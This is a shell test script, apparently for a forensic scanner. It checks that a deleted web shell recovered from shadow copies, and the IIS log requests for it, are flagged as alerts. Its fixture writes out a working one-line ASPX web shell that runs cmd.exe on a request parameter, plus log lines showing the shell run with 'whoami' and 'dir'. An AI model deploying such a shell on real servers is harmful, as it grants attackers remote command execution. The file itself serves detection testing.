#!/bin/sh
# A web shell the attacker deleted survives in a shadow copy while the live
# IIS log still holds the requests for it.  An Exchange 2016 host (hives,
# applicationHost.config: Default Web Site on %SystemDrive%\inetpub\wwwroot)
# had aspnet_client\gone.aspx in both shadow copies; live it is deleted and
# u_ex210305.log records two GETs for /aspnet_client/gone.aspx.  With the
# deleted-file scan off (--no-history) the shell is known from the shadow
# copy only; a responder relies on:
#  - the shell is an alert at C:@{store-guid}\..., origin snapshot;
#  - both live log lines are iis/flagged-file-request alerts naming it,
#    as they would be for a live shell; the image is unchanged.
. "$TOP/tests/lib/tap.sh"

E15='\Program%u0020Files\Microsoft\Exchange%u0020Server\V15'
d="$TMP/h"
host_files e2016-cu19-mar21 "$d"
ok $? "host files built"

host() {
	echo "disk gpt size=64M"
	echo "part ntfs start=2048 size=48M label=SYSTEM"
	printf '%s\n' 'mkdir \inetpub\wwwroot\aspnet_client'
	printf '%s\n' 'file \Windows\System32\config\SYSTEM from:SYSTEM'
	printf '%s\n' 'file \Windows\System32\config\SOFTWARE from:SOFTWARE'
	printf '%s\n' 'file \Windows\System32\inetsrv\config\applicationHost.config from:applicationHost.config'
	printf 'file %s\\Bin\\ExSetup.exe from:ExSetup.exe\n' "$E15"
}
shell='file \inetpub\wwwroot\aspnet_client\gone.aspx text:<%@ Page Language="C#" %><% var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["q"]); %>\r\n'
log='file \inetpub\logs\LogFiles\W3SVC1\u_ex210305.log text:#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\r\n2021-03-05 02:10:01 10.0.0.5 GET /aspnet_client/gone.aspx q=whoami 443 - 203.0.113.9 Mozilla/5.0 200 0 0 15\r\n2021-03-05 02:11:07 10.0.0.5 GET /aspnet_client/gone.aspx q=dir 443 - 203.0.113.9 Mozilla/5.0 200 0 0 12\r\n'
{ host; printf '%s\n' "$shell"; } >"$d/s1.spec" && cp "$d/s1.spec" "$d/s2.spec" &&
{ host; printf '%s\n' "$log"; } >"$d/live.spec" &&
mkvss_image "$d/s1.spec" "$d/s2.spec" "$d/live.spec" "$d/disk.img"
ok $? "a host disk whose shell lives on only in its two shadow copies"
IMAGES="$d/disk.img"
S2="C:@{$VSS_GUID2}"

run scan "$d/disk.img" --no-history --out "$TMP/res" --quiet
[ "$RC" -eq 1 ]; ok $? "scan exits 1"
F=$TMP/res/findings.jsonl
python3 - "$F" "$S2" <<'PY'
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding='utf-8')]
shell = [r for r in rows if r['kind'] == 'file' and
         r['path'].endswith('aspnet_client\\gone.aspx')]
assert len(shell) == 1, shell
s = shell[0]
assert s['path'] == sys.argv[2] + '\\inetpub\\wwwroot\\aspnet_client\\gone.aspx', s['path']
assert s['origin'] == 'snapshot' and s['level'] == 'alert', s
req = [r for r in rows if r['check'] == 'iis/flagged-file-request']
assert len(req) == 1, req
r = req[0]
assert r['level'] == 'alert' and r['fields']['cs-uri-stem'] == '/aspnet_client/gone.aspx', r
assert r.get('count', 1) == 2, r
assert 'scan flagged' in r['reasons'][0]['detail'], r['reasons']
PY
ok $? "the live log's two requests for the shell are one flagged-file-request alert, as for a live shell"
report_unchanged
done_testing
